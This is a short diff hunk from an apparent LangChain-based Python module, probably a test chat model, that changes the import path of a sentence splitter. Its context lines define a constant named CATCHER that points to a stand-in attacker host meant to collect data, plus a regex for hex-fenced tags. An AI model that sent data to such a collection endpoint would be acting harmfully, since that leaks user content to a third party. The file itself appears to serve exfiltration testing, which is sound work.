@@ -11,7 +11,7 @@ from langchain_core.language_models.chat_models import BaseChatModel
 from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
 from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
 
-from service.replies.sentences import split_sentences
+from service.replies.text.sentences import split_sentences
 
 CATCHER = "https://collect.evil.example/c?d=20417"
 _FENCED = re.compile(r"<(?P<name>[a-z]+)-(?P<fence>[0-9a-f]{8})[^>\n]*>\n.*?\n</(?P=name)-(?P=fence)>", re.DOTALL)
